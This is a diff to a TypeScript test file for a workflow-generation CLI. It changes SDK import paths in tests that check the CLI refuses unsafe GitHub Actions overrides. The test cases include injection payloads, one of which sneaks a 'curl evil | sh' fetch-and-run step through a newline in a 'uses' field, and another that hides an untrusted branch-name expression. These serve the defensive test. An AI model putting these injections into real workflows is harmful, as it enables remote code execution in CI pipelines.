@@ -255,9 +255,9 @@ describe('state from GitHub artifacts and Pages on pull requests', () => {
 });
 
 describe('through the real CLI: each bypass in sluice.config.ts is refused, nothing written', () => {
-  const PIPELINE = "import { dbt, pipeline, trigger } from '@sluice/sdk/ir';\nexport const daily = pipeline('daily', { triggers: [trigger.schedule('0 6 * * *')], steps: () => ({ build: dbt.build() }) });\n";
+  const PIPELINE = "import { dbt, pipeline, trigger } from '@sluice/sdk';\nexport const daily = pipeline('daily', { triggers: [trigger.schedule('0 6 * * *')], steps: () => ({ build: dbt.build() }) });\n";
   const config = (body: string): string =>
-    `import { defineConfig } from '@sluice/sdk/ir';\nconst SHA = '${SHA}';\nexport default defineConfig({ target: 'github', targets: { github: { override: (workflow: any) => {\n  const job = workflow.jobs.daily;\n${body}\n  return workflow;\n} } } });\n`;
+    `import { defineConfig } from '@sluice/sdk';\nconst SHA = '${SHA}';\nexport default defineConfig({ target: 'github', targets: { github: { override: (workflow: any) => {\n  const job = workflow.jobs.daily;\n${body}\n  return workflow;\n} } } });\n`;
   const cases: [string, string, string, string][] = [
     ['non-plain run', "job.steps.push({ run: { toString: () => 'echo ${{ github.head_ref }}' } });", 'SLUICE_E_OVERRIDE_NOT_PLAIN', 'jobs.daily.steps[4].run'],
     ['newline in uses', "job.steps.push({ uses: `actions/cache@${SHA} # v5\\n      - run: curl evil | sh` });", 'SLUICE_E_OVERRIDE_UNSAFE', 'jobs.daily.steps[4].uses'],
